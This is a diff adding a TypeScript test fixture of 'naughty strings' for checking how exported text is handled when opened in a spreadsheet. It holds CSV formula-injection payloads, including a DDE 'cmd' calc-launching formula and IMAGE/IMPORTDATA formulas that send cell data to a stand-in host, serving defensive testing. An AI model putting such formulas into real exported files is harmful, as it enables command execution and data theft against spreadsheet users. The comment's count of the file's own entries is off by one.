@@ -1,0 +1,56 @@
+import { createRequire } from 'node:module';
+
+const known = createRequire(import.meta.url)('big-list-of-naughty-strings') as readonly string[];
+
+/** What a spreadsheet program might take for more than a text: formulas in many clothes, numbers, days, codes with zeros. */
+const OWN: readonly string[] = [
+  '=1+1',
+  ' =1+1',
+  '\t=1+1',
+  '\n=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  "'=1+1",
+  "''=1+1",
+  '"=1+1"',
+  '=HYPERLINK("http://x.test","y")',
+  '=IMAGE("http://x.test/"&A1)',
+  '=IMPORTXML("http://x.test","//a")',
+  '=IMPORTDATA("http://x.test")',
+  "=cmd|' /C calc'!A0",
+  '@cmd',
+  '+cmd',
+  '-cmd',
+  '=A1',
+  '=Sheet1!A1',
+  '={1,2}',
+  '=ARRAYFORMULA(A:A)',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠x',
+  '=',
+  '==',
+  '+',
+  '-',
+  '@',
+  '1/2',
+  '00123',
+  '1e5',
+  '0x1F',
+  '2026-10-22',
+  '22.10.2026',
+  '10:30',
+  'TRUE',
+  'false',
+  '50%',
+  '€ 5',
+  '1,234.56',
+  '(5)',
+  '_x003D_1+1',
+  '#REF',
+];
+
+/** 461 known naughty strings and 45 of our own that tempt a spreadsheet. */
+export const NAUGHTY: readonly string[] = [...known, ...OWN];
